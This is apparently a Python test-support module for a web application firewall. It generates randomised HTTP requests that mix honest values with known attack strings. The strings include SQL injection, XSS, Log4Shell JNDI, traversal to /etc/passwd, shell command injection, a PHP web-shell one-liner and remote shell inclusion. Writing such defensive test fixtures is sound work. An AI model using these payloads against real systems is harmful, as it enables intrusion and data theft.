"""Values and requests such as the Core Rule Set looks for, and honest ones."""

from __future__ import annotations

import random
from collections.abc import Iterator
from urllib.parse import quote_plus

from tests.support.waf import Reply, Request

__all__ = ["VALUES", "mutated", "traffic"]

VALUES = (
    b"1 or 1=1", b"1' UNION SELECT user,password FROM users-- -", b"'; exec xp_cmdshell('dir')--", b"sleep(5)#",
    b"admin'/*", b"1;drop table x", b"pay=@ension]=MmcDirectmail[@vendor]=(SELECT", b"' or 'a'='a", b"0x414243",
    b"<script>alert(1)</script>", b"<img src=x onerror=alert(1)>", b"javascript:alert(document.cookie)",
    b"<svg/onload=prompt`1`>", b"\"><iframe src=//evil.test>", b"<a href=\"jav&#x09;ascript:x\">", b"{{7*7}}",
    b"${jndi:ldap://x/a}", b"../../../../etc/passwd", b"..%2f..%2fetc%2fshadow", b"/proc/self/environ",
    b"C:\\windows\\win.ini", b"file:///etc/hosts", b";cat /etc/passwd", b"|id", b"$(uname -a)", b"`whoami`",
    b"() { :;}; echo x", b"ping -c 1 127.0.0.1 && ls -la", b"powershell -enc aQBlAHgA",
    b"<?php system($_GET['c']); ?>", b"php://filter/convert.base64-encode/resource=index.php",
    b"O:8:\"stdClass\":0:{}", b"eval(base64_decode('eA=='))", b"require('child_process').exec('id')",
    b"rO0ABXNyABFq", b"java.lang.Runtime.getRuntime().exec", b"http://192.0.2.1/shell.txt?", b"ftp://x/y",
    b"a\r\nSet-Cookie: x=1", b"PHPSESSID=1", b"\xc0\xaf", b"caf\xc3\xa9", b"%u0041%00", b"a\x00b", b"select",
    b"O'Reilly", b"hello world", b"2024-01-31", b"user@example.com", b"https://shop.example/p?id=1",
    b"{\"a\": [1, true]}", b"<p>Hello <b>you</b></p>", b"x" * 450,
    b"The quick brown fox jumps over the lazy dog; and (then) some -- more.", b"#1 & 50% off!",
    b"~!@#$%^&*()_+{}|:\"<>?",
)  # fmt: skip
AGENTS = (
    b"Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0", b"sqlmap/1.7", b"Nikto", b"",
    b"curl/8.5",
)  # fmt: skip
BODIES = (
    ("application/x-www-form-urlencoded", "a={v}&b=1"),
    ("application/json", '{{"a": "{v}", "b": {{"c": [1, "{v}"]}}}}'),
    ("text/xml", "<a><b>{v}</b><c d='1'/></a>"),
    (
        "multipart/form-data; boundary=x",
        '--x\r\nContent-Disposition: form-data; name="f"; filename="{v}"\r\n\r\n{v}\r\n--x--\r\n',
    ),
    ("multipart/form-data; boundary=x", '--x\nContent-Disposition: form-data; name="{v}"\n\n1'),
    ("text/plain", "{v}"),
)  # fmt: skip
REPLIES = (
    b"<html>ok</html>", b"You have an error in your SQL syntax",
    b"Warning: mysql_query()", b"<?php echo 1;", b"java.lang.NullPointerException at a.b(C.java:1)",
    b"Microsoft OLE DB Provider for SQL Server", b"Index of /root",
)  # fmt: skip


def mutated(text: bytes, chance: random.Random) -> bytes:
    """Return a text that is a little, or much, like another."""
    for _ in range(chance.randrange(4)):
        kind, at = chance.randrange(6), chance.randrange(len(text) + 1)
        match kind:
            case 0:
                text = text[:at] + bytes((chance.randrange(256),)) + text[at:]
            case 1:
                text = text[:at] + text[at + 1 :]
            case 2:
                text = text[:at] + chance.choice(VALUES)[:40]
            case 3:
                text = text.swapcase()
            case 4:
                text = text[at:] + text[:at]
            case _:
                text = text.replace(b" ", chance.choice((b"/**/", b"\n", b"+", b"\x0b")))
    return text


def traffic(count: int, seed: int) -> Iterator[tuple[Request, Reply]]:
    """Yield exchanges with values from ``VALUES`` at random places."""
    chance = random.Random(seed)
    for _ in range(count):
        value = mutated(chance.choice(VALUES), chance)
        quoted = quote_plus(value).encode()
        headers = [(b"Host", b"shop.test"), (b"User-Agent", chance.choice(AGENTS)), (b"Accept", b"*/*")]
        path, body = b"/index.php", b""
        match chance.randrange(5):
            case 0:
                path += b"?q=" + quoted + b"&page=2"
            case 1:
                path = b"/" + quoted + b"?a=1"
            case 2:
                name = chance.choice(
                    (b"Referer", b"Cookie", b"X-Forwarded-For", b"X-Filename", b"Range", b"Content-Encoding")
                )
                clean = value.translate(None, b"\r\n\0")
                headers.append((name, b"s=" + clean if name == b"Cookie" else clean))
            case _:
                kind, template = chance.choice(BODIES)
                inserted = quoted if "urlencoded" in kind else value
                body = template.replace("{{", "{").replace("}}", "}").encode().replace(b"{v}", inserted)
                headers += [(b"Content-Type", kind.encode()), (b"Content-Length", b"%d" % len(body))]
        reply = Reply(
            chance.choice((200, 500)), ((b"Content-Type", b"text/html"),), mutated(chance.choice(REPLIES), chance)
        )
        yield Request(path, headers, body, chance.choice((b"", b"", b"", b"PUT"))), reply
